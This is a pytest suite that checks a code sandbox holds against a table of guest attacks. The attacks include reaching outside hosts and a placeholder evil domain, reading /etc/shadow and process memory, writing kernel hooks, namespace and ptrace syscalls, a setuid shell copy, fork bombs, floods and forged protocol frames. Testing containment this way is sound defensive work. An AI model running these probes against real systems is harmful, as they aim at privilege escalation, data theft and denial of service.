"""Attacks on a box, as a table: what the code tries, what must come of it.

The numbers are those of the table in the design of the boxes. Each attack prints ``held`` lines
only where the box held; to add one is to add a row.
"""
# ruff: noqa: E501 - the code of an attack reads best on one line

import socket
import textwrap
from dataclasses import dataclass

import anyio
import pytest

from nekro_core.sandbox.box import Box, RunLimits, StopReason
from tests.sandbox.play import Tools, play

pytestmark = pytest.mark.jail

PRELUDE = """
import ctypes, errno, os, signal, socket, subprocess, sys, threading, time
libc = ctypes.CDLL(None, use_errno=True)

def fails(action, *errors):
    try:
        got = action()
    except OSError as error:
        if not errors or error.errno in errors:
            print("held")
        else:
            print("another error:", error)
    else:
        print("NOT HELD:", got)

def call(number, *arguments):
    ctypes.set_errno(0)
    result = libc.syscall(number, *arguments)
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result

x86 = os.uname().machine == "x86_64"
"""


@dataclass(frozen=True)
class Attack:
    number: str
    name: str
    code: str
    held: int = 1
    stop: StopReason = StopReason.FINISHED


HOLDS = [
    Attack("1", "tcp out", 'fails(lambda: socket.create_connection(("1.1.1.1", 80), 1))'),
    Attack(
        "3",
        "udp and names",
        """
        sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        fails(lambda: sock.sendto(b"x", ("8.8.8.8", 53)))
        fails(lambda: socket.getaddrinfo("secret.evil.example", 80))
        """,
        2,
    ),
    Attack(
        "4",
        "other families of sockets",
        """
        for family in (16, 17, 40, 38, 44):  # netlink, packet, vsock, alg, xdp
            fails(lambda: socket.socket(family, socket.SOCK_RAW))
        fails(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))
        """,
        6,
    ),
    Attack(
        "6",
        "files of the host",
        """
        for path in ("/etc/shadow", "/root", "/home/other", "/proc/1/root/etc/shadow", "/sys/kernel",
                     "/etc/hostname", "/var/lib", "/opt", "/srv", "/boot", "/mnt"):
            fails(lambda: os.stat(path) and os.listdir(path))
        """,
        11,
    ),
    Attack(
        "6",
        "packages of the host",
        """
        import pathlib
        for root in ("/usr", "/usr/local", sys.prefix):
            found = list(pathlib.Path(root).glob("lib/python3*/*-packages/*"))
            print("held" if not found else found[:5])
        """,
        3,
    ),
    Attack(
        "7",
        "writing to the system",
        """
        for path in ("/usr/bin/x", "/usr/lib/x", "/etc/x", "/run/guest/x", "/x", "/dev/x", "/proc/x",
                     "/run/guest/guest_code.py", "/app/x", "/app/uploads/x", "/home/x", "/run/x"):
            fails(lambda: open(path, "w"))
        """,
        12,
    ),
    Attack(
        "14",
        "mounting and its kin",
        """
        fails(lambda: os.mknod("dev", 0o600 | 0o020000, os.makedev(1, 1)))
        fails(lambda: os.chroot("/tmp"))
        for number in (165, 166, 155) if x86 else (40, 39, 41):
            fails(lambda: call(number, b"/tmp", b"/tmp", b"tmpfs", 0, 0), errno.EPERM)
        for number in (428, 429, 430, 431, 432, 442):
            fails(lambda: call(number, 0, b"tmpfs", 0, 0, 0), errno.ENOSYS)
        fails(lambda: call(304 if x86 else 265, 0, 0, 0), errno.ENOSYS)
        """,
        12,
    ),
    Attack(
        "22",
        "limits are raised again",
        """
        import resource
        for name in ("RLIMIT_NPROC", "RLIMIT_DATA", "RLIMIT_AS", "RLIMIT_NOFILE", "RLIMIT_CORE"):
            try:
                resource.setrlimit(getattr(resource, name), (resource.RLIM_INFINITY,) * 2)
            except (ValueError, OSError):
                print("held")
        """,
        5,
    ),
    Attack(
        "22",
        "descriptors run out",
        """
        kept = []
        fails(lambda: [kept.append(os.open("/", os.O_RDONLY)) for _ in range(100000)], errno.EMFILE)
        """,
    ),
    Attack(
        "24",
        "signals to the agent and to everyone",
        """
        import resource
        for number in set(signal.Signals):
            os.kill(1, number)
        fails(lambda: os.kill(-1, signal.SIGKILL), errno.ESRCH)  # there is nobody else
        call(424, os.pidfd_open(1), signal.SIGKILL, 0, 0)
        fails(lambda: resource.prlimit(1, resource.RLIMIT_CPU, (0, 0)), errno.EPERM)
        """,
        2,
    ),
    Attack(
        "28",
        "looking into other processes",
        """
        assert os.getppid() == 1
        for pid in (1,):
            for name in ("environ", "maps", "mem", "fd", "root", "cwd", "exe"):
                path = f"/proc/{pid}/{name}"
                fails(lambda: os.readlink(path) if name in ("root", "cwd", "exe")
                    else os.listdir(path) if name == "fd" else open(path, "rb").read(10) or "empty")
        text = open("/proc/1/cmdline").read()
        print("held" if "nekro" not in text and "tmp" not in text else text)
        pids = [name for name in os.listdir("/proc") if name.isdigit()]
        print("held" if len(pids) <= 2 else pids)
        """,
        9,
    ),
    Attack(
        "28",
        "the kernel's own files",
        """
        for name in ("kcore", "kallsyms", "keys", "sched_debug", "timer_list", "kmsg", "modules"):
            try:
                print("held" if not open(f"/proc/{name}", "rb").read(100) else name)
            except OSError:
                print("held")
        """,
        7,
    ),
    Attack(
        "29",
        "the kernel's settings",
        """
        for path in ("/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe",
                     "/proc/sysrq-trigger", "/sys/kernel/uevent_helper", "/proc/sys/vm/overcommit_memory",
                     "/sys/fs/cgroup/release_agent"):
            fails(lambda: open(path, "w"))
        fails(lambda: os.write(os.open("/proc/self/oom_score_adj", os.O_WRONLY), b"-1000"))
        """,
        7,
    ),
    Attack(
        "30",
        "environment and descriptors",
        """
        print("held" if not any("SECRET" in name for name in os.environ) else os.environ)
        known = {"0", "1", "2", "3"}
        print("held" if len(set(os.listdir("/proc/self/fd")) - known) <= 1 else os.listdir("/proc/self/fd"))
        with open("/proc/self/environ") as file:
            print("held" if "SECRET" not in file.read() else "a secret")
        """,
        3,
    ),
    Attack(
        "31",
        "tracing",
        """
        parent = os.getppid()
        fails(lambda: call(101 if x86 else 117, 16, parent, 0, 0), errno.EPERM)
        fails(lambda: call(310 if x86 else 270, parent, 0, 0, 0, 0, 0), errno.EPERM)
        fails(lambda: call(438, os.pidfd_open(parent), 0, 0), errno.EPERM)
        """,
        3,
    ),
    Attack(
        "32",
        "namespaces",
        """
        for flag in (0x10000000, 0x20000, 0x40000000, 0x20000000, 0x08000000, 0x04000000, 0x02000000):
            fails(lambda: call(272 if x86 else 97, flag), errno.EPERM)
            fails(lambda: call(56 if x86 else 220, flag | 17, 0, 0, 0, 0), errno.EPERM)
        fails(lambda: call(435, 0, 0), errno.ENOSYS)
        fails(lambda: call(308 if x86 else 268, 0, 0), errno.EPERM)
        print(subprocess.run(["/bin/echo", "held"], capture_output=True, text=True).stdout, end="")
        threading.Thread(target=print, args=("held",)).start()
        """,
        18,
    ),
    Attack(
        "33",
        "privileges by a file",
        """
        import shutil
        shutil.copy("/bin/sh", "sh")
        os.chmod("sh", 0o6755)
        shown = subprocess.run(["./sh", "-c", "id -u; grep -E 'Cap(Eff|Prm|Bnd|Amb)|NoNewPrivs' /proc/self/status"],
            capture_output=True, text=True).stdout.split()
        print("held" if shown[0] == "1000" else shown)
        print("held" if set(shown[2:-1:2]) == {"0" * 16} and shown[-1] == "1" else shown)
        fails(lambda: os.setuid(0))
        fails(lambda: os.setgroups([0]))
        """,
        4,
    ),
    Attack(
        "34",
        "terminal tricks",
        """
        import fcntl
        fails(lambda: open("/dev/tty"))
        master, slave = os.openpty()
        fails(lambda: fcntl.ioctl(slave, 0x5412, b"x"), errno.EPERM)
        """,
        2,
    ),
    Attack(
        "35",
        "devices",
        """
        allowed = set("console core fd full null ptmx pts random shm stderr stdin stdout tty urandom zero".split())
        print("held" if set(os.listdir("/dev")) <= allowed else os.listdir("/dev"))
        """,
    ),
    Attack(
        "22",
        "memory that nobody maps",
        """
        fails(lambda: os.memfd_create("x"), errno.ENOSYS)
        for number in (29, 68, 64, 240) if x86 else (194, 186, 190, 180):
            fails(lambda: call(number, 0, 4096, 0o1600), errno.ENOSYS)
        """,
        5,
    ),
]


@pytest.mark.parametrize("attack", HOLDS, ids=lambda attack: f"{attack.number}-{attack.name}")
async def test_the_box_holds(used_box: Box, attack: Attack) -> None:
    result = await play(used_box, PRELUDE + textwrap.dedent(attack.code))
    assert result.stop is attack.stop, result
    lines = result.output.splitlines()
    assert lines == ["held"] * attack.held, result.output


async def test_2_a_server_of_the_host_sees_nobody(used_box: Box) -> None:
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.settimeout(0.2)
        port = server.getsockname()[1]
        code = f"fails(lambda: socket.create_connection(('127.0.0.1', {port}), 2))"
        assert (await play(used_box, PRELUDE + code)).output == "held\n"
        with pytest.raises(TimeoutError):
            server.accept()


async def test_4_an_abstract_socket_of_the_host_is_out_of_reach(used_box: Box) -> None:
    with socket.socket(socket.AF_UNIX) as server:
        server.bind("\0nekro-test-canary")
        server.listen()
        code = 'fails(lambda: socket.socket(socket.AF_UNIX).connect("\\0nekro-test-canary"))'
        assert (await play(used_box, PRELUDE + code)).output == "held\n"


SECONDS = RunLimits(seconds=1)


@pytest.mark.parametrize(
    ("name", "code", "stops"),
    [
        ("15 fork bomb", "while True:\n    try: os.fork()\n    except OSError: pass", {"timeout", "out_of_memory"}),
        ("15 fork bomb of daemons", "while True:\n    try:\n        if not os.fork(): os.setsid()\n    except OSError: pass", {"timeout", "out_of_memory"}),
        ("15 threads", "while True:\n    try: threading.Thread(target=time.sleep, args=(99,)).start()\n    except RuntimeError: pass", {"timeout", "out_of_memory"}),
        ("18 busy loop", "while True: pass", {"timeout"}),
        ("19 signals ignored", "for n in set(signal.Signals) - {9, 19}:\n    signal.signal(n, signal.SIG_IGN)\nsignal.pthread_sigmask(signal.SIG_BLOCK, range(1, 64))\ntime.sleep(99)", {"timeout"}),
        ("19 stopped", "os.kill(os.getpid(), signal.SIGSTOP)", {"timeout"}),
        ("19 not dumpable, traced by nobody", "libc.prctl(4, 0, 0, 0, 0)\ntime.sleep(99)", {"timeout"}),
        ("23 a number too large", "10 ** 10 ** 8", {"timeout", "out_of_memory"}),
        ("23 recursion", "sys.setrecursionlimit(10**9)\ndef f(): f()\nf()", {"died", "error", "out_of_memory", "timeout"}),
        ("23 nested json", "import json\njson.loads('[' * 10**7)", {"error", "died"}),
        ("23 regular expression", "import re\nre.match('(a+)+$', 'a' * 99 + 'b')", {"timeout"}),
        ("25 flood", "while True: os.write(1, b'x' * 65536)", {"timeout"}),
        ("25 flood of both", "threading.Thread(target=lambda: [sys.stderr.write('y' * 9999) for _ in iter(int, 1)]).start()\nwhile True: print('x' * 9999)", {"timeout"}),
        ("9 million files", "for n in range(10**7): os.mknod(f'{n}')", {"out_of_memory", "timeout"}),
        ("17 memory in pieces", "x = []\nwhile True: x.append(bytearray(10**6))", {"out_of_memory"}),
        ("17 shared memory", "import mmap\nx = []\nwhile True:\n    m = mmap.mmap(-1, 10**7)\n    m.write(b'x' * 10**7)\n    x.append(m)", {"out_of_memory", "error"}),
    ],
    ids=lambda value: value if isinstance(value, str) and value[0].isdigit() else "",
)  # fmt: skip
async def test_what_never_ends_is_ended(box: Box, name: str, code: str, stops: set[str]) -> None:
    with anyio.fail_after(15):
        result = await play(box, PRELUDE + code, SECONDS)
    assert result.stop.value in stops, result
    assert len(result.output) <= SECONDS.output_bytes
    with anyio.fail_after(15):
        assert (await play(box, "print('next')")).output == "next\n"


async def test_20_a_daemon_does_not_hold_the_result_and_ends_with_the_run(box: Box) -> None:
    code = """
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                os.close(3)
                time.sleep(60)
            os._exit(0)
        print("started")
    """
    with anyio.fail_after(10):
        result = await play(box, PRELUDE + textwrap.dedent(code))
    assert (result.stop, result.output) == (StopReason.FINISHED, "started\n")
    look = "import os\nprint(sum(name.isdigit() for name in os.listdir('/proc')) <= 2)"
    with anyio.fail_after(5):
        while (await play(box, look)).output != "True\n":
            await anyio.sleep(0.05)


async def test_26_output_of_any_bytes_is_text(used_box: Box) -> None:
    code = "os.write(1, bytes(range(256)) + b'\\xed\\xa0\\x80\\xef\\xbb\\xbf\\x1b]0;t\\x07')"
    result = await play(used_box, PRELUDE + code)
    assert result.stop is StopReason.FINISHED
    result.output.encode()
    await play(used_box, "print('\\ud800')")


async def test_27_what_a_run_breaks_is_whole_in_the_next(box: Box) -> None:
    code = """
        import builtins, json, sys
        sys.modules["guest_wire"].Channel.send = None
        json.dumps = json.loads = builtins.exec = builtins.compile = sys.exit = None
        sys.stdout = None
        sys.modules["guest_tools"].Conversation.call = None
    """
    with anyio.fail_after(10):
        assert (await play(box, code)).stop in (StopReason.DIED, StopReason.ERROR)
        assert (await play(box, "print(tool())", tool=5)).output == "5\n"


FRAME = """
import os, struct, time
def raw(kind, number=0, text=b"", body=b"", text_length=None, body_length=None):
    head = struct.pack("!IIII", kind, number,
        len(text) if text_length is None else text_length,
        len(body) if body_length is None else body_length)
    data = head + text + body
    while data:
        data = data[os.write(3, data):]
CALL, DONE, END = 17, 18, 21
"""


@pytest.mark.parametrize(
    ("name", "code"),
    [
        ("a pickle", 'raw(CALL, 1, b"\\x80\\x04\\x95.")'),
        ("not json", 'raw(CALL, 1, b"{{{")'),
        ("not utf-8", 'raw(CALL, 1, b\'["tool", ["\\xff"], {}]\')'),
        ("not a call", 'raw(CALL, 1, b\'{"name": "tool"}\')'),
        ("no name", "raw(CALL, 1, b'[1, [], {}]')"),
        ("NaN", "raw(CALL, 1, b'[\"tool\", [NaN], {}]')"),
        ("infinity by size", "raw(CALL, 1, b'[\"tool\", [1e999], {}]')"),
        ("a huge number", "raw(CALL, 1, b'[\"tool\", [' + b'9' * 100000 + b'], {}]')"),
        ("deep", "raw(CALL, 1, b'[\"tool\", ' + b'[' * 100000 + b']' * 100000 + b', {}]')"),
        ("rather deep", "raw(CALL, 1, b'[\"tool\", ' + b'[' * 200 + b']' * 200 + b', {}]')"),
        ("a key twice", 'raw(CALL, 1, b\'["tool", [], {"a": 1, "a": 2}]\')'),
        ("a piece outside", 'raw(CALL, 1, b\'["tool", [{"$b": [0, 9]}], {}]\', b"x")'),
        ("a piece before", 'raw(CALL, 1, b\'["tool", [{"$b": [-1, 1]}], {}]\', b"x")'),
        ("a strange mark", 'raw(CALL, 1, b\'["tool", [{"$x": 1}], {}]\')'),
        ("a number in use", "for _ in range(2): raw(CALL, 1, b'[\"slow\", [], {}]')"),
        ("a text too long", "raw(CALL, 1, text_length=2**31)"),
        ("a body too long", "raw(CALL, 1, body_length=2**32 - 1)"),
        ("an unknown kind", "raw(99)"),
        ("a result of its own", 'raw(19, 0, b\'{"stop":"finished"}\')'),
        ("a file", "raw(20, 1, b'{}')"),
        ("done with a body", 'raw(DONE, 1, b"1", b"x")'),
        ("an end that is not json", 'raw(END, 0, b"nonsense")'),
        ("an end that is the host's", 'raw(END, 0, b\'{"stop":"timeout","error":"x"}\')'),
    ],
    ids=lambda value: value if "raw(" not in value else "",
)
async def test_36_forged_frames_end_the_run_and_nothing_else(
    used_box: Box, name: str, code: str
) -> None:
    async def forever(call: object) -> None:
        await anyio.sleep_forever()

    tools = Tools({"tool": None, "slow": forever})
    with anyio.fail_after(10):
        result = await play(used_box, f"{FRAME}{code}\ntime.sleep(60)", tools=tools)
    assert result.stop is StopReason.PROTOCOL_ERROR, result
    assert [call.name for call in tools.calls] in ([], ["slow"])
    assert (await play(used_box, "print('next')")).output == "next\n"


async def test_a_forged_acknowledgement_buys_no_time(used_box: Box) -> None:
    code = f"{FRAME}raw(DONE, 1, b'1')\nwhile True: pass"
    limits = RunLimits(seconds=0.5)
    run = await used_box.start_run([], Tools({}).handle, limits)
    await run.feed(code, 1)
    with anyio.fail_after(10):
        result = await run.wait()  # nobody says that the source is complete
    assert result.stop is StopReason.TIMEOUT


async def test_37_only_the_names_of_this_run_reach_its_handler(used_box: Box) -> None:
    tools = Tools({"tool": None})
    for name in ("__class__", "tool.__globals__", "other", "a.b.c"):
        code = f"{FRAME}raw(CALL, 1, b'[\"{name}\", [], {{}}]')\ntime.sleep(5)"
        result = await play(used_box, code, tools=tools)
        assert result.stop is StopReason.PROTOCOL_ERROR
    assert not tools.calls
